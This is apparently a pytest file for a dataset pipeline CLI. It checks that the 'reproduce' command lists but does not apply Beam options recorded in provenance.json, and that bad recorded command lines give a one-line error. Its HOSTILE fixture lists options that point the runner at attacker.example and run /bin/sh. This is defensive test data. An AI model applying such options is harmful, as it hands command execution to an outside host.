"""`reproduce` takes a release's recorded csdata arguments but not the Beam options recorded with
them (whoever made the release chose those): they are listed and ignored unless
`--trust-recorded-options`; a recorded command line csdata rejects is one line and exit 2."""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from pipeline.cli.main import main

pytestmark = pytest.mark.slow

SCRAPED = Path(__file__).resolve().parents[1] / "data" / "protoqa" / "scraped.jsonl"
HOSTILE = ["--runner=PortableRunner", "--job_endpoint=attacker.example:8099",
           "--environment_type=PROCESS", "--environment_config={\"command\": \"/bin/sh\"}"]


@pytest.fixture
def made(tmp_path, capsys) -> Path:
    """A finished `protoqa questions` output (its provenance.json names one step)."""
    out = tmp_path / "made"
    assert main(["-q", "protoqa", "questions", "--input", str(SCRAPED), "--output", str(out)]) == 0
    capsys.readouterr()
    return out


def with_argv(folder: Path, change) -> None:
    path = folder / "provenance.json"
    provenance = json.loads(path.read_text())
    provenance["steps"][-1]["argv"] = change(provenance["steps"][-1]["argv"])
    path.write_text(json.dumps(provenance))


def test_recorded_runner_options_are_listed_and_never_applied(made, tmp_path, capsys):
    with_argv(made, lambda argv: [*argv, *HOSTILE])
    assert main(["-q", "protoqa", "reproduce", str(made), "--output", str(tmp_path / "again")]) == 0
    out = capsys.readouterr().out
    assert f"step 1: recorded options ignored: {' '.join(HOSTILE)}" in out
    assert out.splitlines()[-1] == "identical"   # ran here, in process


def test_recorded_options_apply_only_when_trusted(made, tmp_path, capsys):
    with_argv(made, lambda argv: [*argv, "--spce=1"])
    code = main(["-q", "protoqa", "reproduce", str(made), "--output", str(tmp_path / "again"),
                 "--trust-recorded-options"])
    err = capsys.readouterr().err
    assert code == 2
    assert err.strip().splitlines() == [
        "csdata: error: unrecognized option --spce=1 (not a csdata or Beam option; see --help)"]
    assert not (tmp_path / "again").exists()


def test_the_users_own_beam_options_are_checked_before_any_work(made, tmp_path, capsys):
    code = main(["-q", "protoqa", "reproduce", str(made), "--output", str(tmp_path / "again"), "--spce=1"])
    assert code == 2 and "unrecognized option --spce=1" in capsys.readouterr().err


@pytest.mark.parametrize("argv, message", [
    (["protoqa", "questions"], "csdata does not accept the recorded command line `csdata protoqa questions`"),
    (["frobnicate", "--output", "x"], "csdata does not accept the recorded command line"),
    (["stats", "somewhere"], "`csdata stats somewhere` is not a command that writes a dataset output"),
    ("not a list", "no recorded command line (argv)"),
])
def test_a_recorded_command_line_csdata_rejects_is_one_line(made, tmp_path, capsys, argv, message):
    with_argv(made, lambda _: argv)
    code = main(["-q", "protoqa", "reproduce", str(made), "--output", str(tmp_path / "again")])
    err = capsys.readouterr().err
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("csdata: error: provenance.json step 1: ") and message in lines[0], err
